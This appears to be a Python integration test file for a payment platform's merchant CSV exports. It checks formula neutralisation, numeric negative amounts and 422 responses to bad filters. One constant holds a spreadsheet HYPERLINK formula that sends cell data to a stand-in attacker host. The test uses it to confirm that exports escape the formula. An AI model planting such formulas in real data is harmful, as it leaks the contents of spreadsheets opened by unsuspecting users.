"""Exports are safe to open: a merchant's formula comes out as text, negative amounts as numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

from jivapay.adapters.db.models import Store, User
from jivapay.adapters.db.uow import atomic
from jivapay.domain.identity.roles import Role
from jivapay.domain.ledger import posting as L
from jivapay.services.ledger import posting
from tests.factories import bearer, make_api_key, token_for
from tests.integration.conftest import World

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open receipt")'


async def _merchant(world: World, client: Any) -> tuple[dict[str, str], dict[str, str]]:
    async with world.session_factory() as session:
        store = await session.get(Store, world.store_id)
        assert store is not None
        merchant = await session.get(User, store.merchant_id)
    assert merchant is not None
    _, key = await make_api_key(world.session_factory, merchant.id, world.store_id)
    return {"X-API-Key": key}, bearer(await token_for(client, Role.MERCHANT, merchant.login))


async def test_a_merchant_order_id_formula_is_neutralised_in_the_orders_csv(world: World, client: Any) -> None:
    api, cabinet = await _merchant(world, client)
    created = await client.post(
        "/gateway/payin/init",
        json={"amount": "1000.00", "currency": "RUB", "payment_method": "card", "merchant_order_id": FORMULA},
        headers=api,
    )
    assert created.status_code == 201, created.text
    now = dt.datetime.now(dt.UTC)
    exported = await client.get(
        "/merchant/orders.csv",
        params={
            "created_from": (now - dt.timedelta(days=1)).isoformat(),
            "created_to": (now + dt.timedelta(days=1)).isoformat(),
        },
        headers=cabinet,
    )
    assert exported.status_code == 200, exported.text
    [row] = list(csv.DictReader(io.StringIO(exported.text)))
    assert row["merchant_order_id"] == "'" + FORMULA
    assert row["amount"] == "1000.00"
    # the cabinet's JSON is not a spreadsheet: the value is shown as the merchant sent it
    listed = (await client.get("/merchant/orders", headers=cabinet)).json()["data"]
    assert [o["merchant_order_id"] for o in listed] == [FORMULA]


async def test_negative_amounts_stay_numbers_in_the_balance_history_csv(world: World, client: Any) -> None:
    _, cabinet = await _merchant(world, client)
    async with atomic(world.session_factory) as session:
        await posting.credit_deposit(session, "store", world.store_id, "TRC20", 20_000_000, "dep-csv")
        await posting.post(
            session,
            idempotency_key="fee-csv",
            kind="transfer",
            legs=[L.Leg(L.store_available(world.store_id), -12_500_000), L.Leg(L.platform_profit(), 12_500_000)],
        )
    exported = await client.get(f"/merchant/stores/{world.store_id}/balance/history.csv", headers=cabinet)
    assert exported.status_code == 200, exported.text
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [r["amount"] for r in rows] == ["-12.500000", "20.000000"]
    assert [r["balance_after"] for r in rows] == ["7.500000", "20.000000"]


async def test_a_filter_the_database_refuses_is_a_422_not_a_cut_off_download(world: World, client: Any) -> None:
    from tests.factories import make_user

    admin = await make_user(world.session_factory, Role.ADMIN)
    headers = bearer(await token_for(client, Role.ADMIN, admin.login))
    for path in ("/admin/deposits.csv", "/admin/deposits"):
        answer = await client.get(f"{path}?owner_id=99999999999", headers=headers)  # beyond the column's range
        assert answer.status_code == 422, answer.text
        assert answer.json()["error"]["code"] == "validation_failed"
    empty = await client.get("/admin/deposits.csv", headers=headers)
    assert empty.status_code == 200
    assert empty.text.splitlines()[0].startswith("deposit_id,")
